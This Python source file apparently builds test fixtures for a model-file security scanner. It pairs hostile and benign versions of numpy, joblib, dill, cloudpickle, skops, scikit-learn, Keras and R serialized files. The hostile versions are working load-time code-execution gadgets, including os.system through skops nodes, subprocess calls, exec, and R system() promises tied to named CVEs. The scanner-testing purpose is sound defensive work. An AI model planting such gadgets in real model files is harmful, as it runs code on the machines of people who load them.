"""Files of the Python libraries: numpy, joblib, dill, cloudpickle, skops, pandas, scikit-learn, Keras in pickles, R."""

from __future__ import annotations

import functools
import gzip
import io
import json
import lzma
import pickle
import struct
import subprocess
import uuid
from unittest import mock

import cloudpickle
import dill
import joblib
import numpy as np
import pandas as pd
from sklearn.feature_extraction.text import CountVectorizer
from sklearn.linear_model import LogisticRegression

from assembly import call, dot, glob, model, val
from assembly import pickle as assembled
from pair import CODE, SHELL
from seventh.kerases import archive as keras_archive
from seventh.kerases import lambda_layer, sequential
from seventh.kit import zipped

ROWS = np.random.default_rng(3).normal(0, 1, (12, 4))


def npy(descr: str, shape: tuple, body: bytes) -> bytes:
    head = f"{{'descr': {descr}, 'fortran_order': False, 'shape': {shape}, }}".encode()
    head += b" " * (-(len(head) + 11) % 64) + b"\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(head)) + head + body


class Reduced:
    """An object that pickles as a call."""

    def __init__(self, function, *args):
        self.how = (function, args)

    def __reduce__(self):
        return self.how


def by_value(source: str, name: str):
    """A class or function of `__main__`, so that it is pickled by its code."""
    scope = {"__name__": "__main__", "__builtins__": __builtins__}
    exec(source, scope)
    return scope[name]


def carried(thing) -> bytes:
    """`thing` by cloudpickle, whose class ids are the same each time."""
    with mock.patch("uuid.uuid4", lambda: uuid.UUID(int=7, version=4)):
        return cloudpickle.dumps(thing)


def add(out):
    def one(name, hostile, twin, file, prove, why=""):
        out.add("libraries", name, hostile, twin, prove, file, why)

    # numpy: objects where nobody expects them.
    def strings():
        return pickle.dumps(np.array(["low", "mid", "high"], dtype=object), protocol=3)

    wicked = assembled(call(glob("numpy.testing._private.utils", "runstring"), CODE, {}), 3)

    def npz(third):
        return zipped(
            [
                ("coef.npy", npy("'<f8'", (12, 4), ROWS.tobytes())),
                ("mean.npy", npy("'<f8'", (4,), ROWS[0].tobytes())),
                ("labels.npy", npy("'|O'", (3,), third)),
            ],
            8,
        )

    one(
        "npz_third_member",
        npz(wicked),
        npz(strings()),
        "scaler.npz",
        "numpy",
        "the third of three arrays holds objects; the twin's are strings",
    )
    structured = "[('id', '<i4'), ('meta', [('tag', '|O'), ('score', '<f4')])]"
    rows = pickle.dumps(
        np.array([(1, ("a", 0.5)), (2, ("b", 0.25))], dtype=[("id", "<i4"), ("meta", [("tag", "O"), ("score", "<f4")])]), protocol=3
    )
    inner = assembled(call(glob("numpy.f2py.crackfortran", "myeval"), CODE), 3)
    one(
        "structured_dtype_two_deep",
        npy(structured, (2,), inner),
        npy(structured, (2,), rows),
        "rows.npy",
        "numpy",
        "the object field lies inside a field",
    )
    one(
        "memory_map_overwrites_a_file",
        assembled(model(call(glob("numpy", "memmap"), "marker", "uint8", "w+", 0, (16,)))),
        pickle.dumps({"epoch": 3, "weights": [0.5], "extra": np.zeros(16, "uint8"), "name": "classifier"}, 4),
        "state.pkl",
        "pickle",
        "numpy.memmap opens its file with mode w+: it is emptied",
    )
    payload = io.BytesIO()
    np.save(payload, ROWS)
    one(
        "array_reader_decodes_objects",
        assembled(model(call(glob("numpy.lib.format", "read_array"), call(glob("io", "BytesIO"), npy("'|O'", (1,), wicked)), True))),
        assembled(model(call(glob("numpy.lib.format", "read_array"), call(glob("io", "BytesIO"), payload.getvalue()), False))),
        "state.pkl",
        "pickle",
        "a .npy of objects in bytes, and allow_pickle given by position",
    )

    # joblib: after the raw array bytes, and under xz.
    import lib2to3.pgen2.grammar as grammar

    second = assembled({"marks": call(glob("imaplib", "IMAP4_stream"), SHELL)}, 2)

    def dumped(extra, **how):
        buffer = io.BytesIO()
        joblib.dump({"coef": ROWS, "names": ["a", "b"], "scale": ROWS[1], "tables": extra}, buffer, **how)
        return buffer.getvalue()

    one(
        "joblib_second_stage_after_arrays",
        dumped(Reduced(grammar.Grammar().loads, second)),
        dumped({"symbol2number": {"expr": 256}, "start": 256}),
        "pipeline.joblib",
        "joblib",
        "a bound method of a grammar object decodes a pickle of its own",
    )
    one(
        "joblib_xz_file_write",
        lzma.compress(dumped(Reduced(pd.DataFrame.to_csv, pd.DataFrame({"a": [1]}), "marker"))),
        lzma.compress(dumped(pd.DataFrame({"a": [1]}))),
        "features.joblib.xz",
        "joblib",
        "a data frame is written to a path of the file's choice",
    )

    # By value: the code travels in the file.
    maker = by_value("def start():\n    import os\n    os.close(os.open('marker', os.O_CREAT | os.O_WRONLY))\n    return 0.0\n", "start")
    calm = by_value("def start():\n    import math\n    total = math.fsum([0.5, 0.25, 0.25])\n    return total\n", "start")
    one(
        "dill_function_called_on_load",
        dill.dumps({"threshold": Reduced(maker)}, recurse=True),
        dill.dumps({"threshold": calm}, recurse=True),
        "threshold.dill",
        "dill",
        "a function by value is called while it is read; the twin's is kept for later",
    )
    shape = "class Wrapper:\n    def __init__(self):\n        self.scale = 2.0\n    def predict(self, x):\n        return [v * self.scale for v in x]\n    def __setstate__(self, state):\n{}        self.__dict__.update(state)\n"
    loud = by_value(shape.format("        import pathlib\n        pathlib.Path('marker').write_text('x')\n"), "Wrapper")
    quiet = by_value(shape.format("        state.setdefault('scale', 1.0)\n"), "Wrapper")
    one(
        "cloudpickle_setstate_of_a_class_by_value",
        carried(loud()),
        carried(quiet()),
        "python_model.pkl",
        "pickle",
        "__setstate__ is in the file and runs on load",
    )

    # skops: schemas that call.
    def skops(middle):
        schema = {
            "__class__": "dict",
            "__module__": "builtins",
            "__loader__": "DictNode",
            "content": {"bias": middle},
            "protocol": 2,
            "_skops_version": "0.13.0",
            "__id__": 1,
        }
        keys = {"__class__": "str", "__module__": "builtins", "__loader__": "TypeNode", "__id__": 3}
        schema["key_types"] = {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [keys], "__id__": 2}
        return zipped({"schema.json": json.dumps(schema)}, 8)

    def text(value, number):
        return {
            "__class__": "str",
            "__module__": "builtins",
            "__loader__": "JsonNode",
            "content": json.dumps(value),
            "is_json": True,
            "__id__": number,
        }

    def listed(kind, number, *items):
        return {
            "__class__": kind,
            "__module__": "builtins",
            "__loader__": "ListNode" if kind == "list" else "TupleNode",
            "content": list(items),
            "__id__": number,
        }

    def constructed(module, name, *args):
        return {
            "__class__": name,
            "__module__": module,
            "__loader__": "ConstructorFromReduceNode",
            "content": listed("tuple", 11, *args),
            "__id__": 10,
        }

    one(
        "skops_constructor_starts_a_process",
        skops(constructed("subprocess", "Popen", listed("list", 12, text("touch", 13), text("marker", 14)))),
        skops(constructed("fractions", "Fraction", text(3, 13), text(4, 14))),
        "clf.skops",
        "skops",
        "the reduce constructor names a class of another library",
    )
    function = {"__class__": "system", "__module__": "os", "__loader__": "FunctionNode", "__id__": 20}

    def partial(func, *args):
        content = {
            "func": func,
            "args": listed("tuple", 21, *args),
            "kwds": {
                "__class__": "dict",
                "__module__": "builtins",
                "__loader__": "DictNode",
                "content": {},
                "key_types": listed("list", 23),
                "__id__": 22,
            },
            "namespace": text(None, 24),
        }
        return {"__class__": "partial", "__module__": "functools", "__loader__": "PartialNode", "content": content, "__id__": 25}

    def operator(name, *args):
        return {
            "__class__": name,
            "__module__": "operator",
            "__loader__": "OperatorFuncNode",
            "attrs": listed("tuple", 26, *args),
            "__id__": 27,
        }

    one(
        "skops_operator_calls_a_partial",
        skops(operator("call", partial(function, text(SHELL, 28)))),
        skops(operator("methodcaller", text("lower", 28))),
        "clf.skops",
        "skops",
        "CVE-2025-54412's node: operator.call over a partial of os.system",
    )
    one(
        "skops_name_over_a_pickle",
        assembled({"classes": [0, 1], "coef": call(glob("pydoc", "tempfilepager"), "x", SHELL + ";:")}, 4),
        skops(text(0.5, 10)),
        "clf.skops",
        "joblib",
        "CVE-2025-54886: what is no zip is handed to joblib",
    )

    # scikit-learn: the hook that is used, not loaded.
    def vectoriser(hook):
        fitted = CountVectorizer(vocabulary={"touch": 0, "marker": 1})
        fitted.set_params(preprocessor=hook)
        return pickle.dumps({"extra": fitted}, 4)

    one(
        "vectoriser_preprocessor_is_a_shell",
        vectoriser(functools.partial(subprocess.getoutput)),
        vectoriser(functools.partial(str.lower)),
        "vectoriser.pkl",
        "call",
        "each text that is classified is run",
    )
    one(
        "estimator_subclass_by_metaclass_call",
        assembled(
            val(
                {
                    "clf": call(
                        glob("types", "new_class"), "Estimator", (), {}, call(glob("functools", "partial"), glob("builtins", "exec"), CODE)
                    )
                }
            )
        ),
        pickle.dumps({"clf": LogisticRegression(C=0.5)}, 4),
        "clf.pkl",
        "pickle",
        "types.new_class calls the body it is given",
    )

    # Keras models in a pickle carry a whole .keras archive.
    def kept(layer):
        return assembled(
            {
                "epoch": 9,
                "model": call(
                    dot("keras.src.saving.keras_saveable", "KerasSaveable._unpickle_model"),
                    call(glob("_io", "BytesIO"), keras_archive(sequential(layer))),
                ),
            }
        )

    one(
        "keras_archive_in_a_pickle",
        kept(lambda_layer("open('marker', 'w').close() or x")),
        kept(
            {
                "module": "keras.layers",
                "class_name": "Activation",
                "config": {"name": "act", "trainable": True, "dtype": "float32", "activation": "relu"},
                "registered_name": None,
            }
        ),
        "model.pkl",
        "keras.pickle",
        "the bytes are a .keras archive that is read with safe_mode off, with a Lambda in byte code",
    )

    # R: a promise that is evaluated when it is touched (CVE-2024-27322).
    def rds(body):
        return gzip.compress(b"X\n" + struct.pack(">III", 3, 0x00040303, 0x00030500) + struct.pack(">I", 5) + b"UTF-8" + body, mtime=0)

    def symbol(name):
        return struct.pack(">I", 1) + struct.pack(">II", 0x00040009, len(name)) + name.encode()

    def character(value):
        return struct.pack(">II", 16, 1) + struct.pack(">II", 0x00040009, len(value)) + value.encode()

    nil = struct.pack(">I", 254)
    language = struct.pack(">I", 6) + symbol("system") + struct.pack(">I", 2) + character(SHELL) + nil
    promise = struct.pack(">I", 5) + struct.pack(">I", 252) + language
    one(
        "r_promise",
        rds(promise),
        rds(struct.pack(">II", 14, 3) + struct.pack(">ddd", 0.5, 1.5, 2.5)),
        "fit.rds",
        None,
        "a promise whose expression calls system(); written from R's serialisation format, R is not installed",
    )
    formula = struct.pack(">I", 6) + symbol("~") + struct.pack(">I", 2) + symbol("mpg") + struct.pack(">I", 2) + symbol("wt") + nil
    hook = struct.pack(">I", 0x403) + struct.pack(">I", 253) + nil + language
    plain = struct.pack(">I", 0x403) + struct.pack(">I", 253) + nil + formula
    named = struct.pack(">II", 0x213, 1)
    names = struct.pack(">I", 0x402) + symbol("names") + character("print") + nil
    one(
        "r_closure_in_a_list",
        rds(named + hook + names),
        rds(named + plain + names),
        "fit.rds",
        None,
        "a list with a function whose body calls system(); the twin's body is a formula",
    )
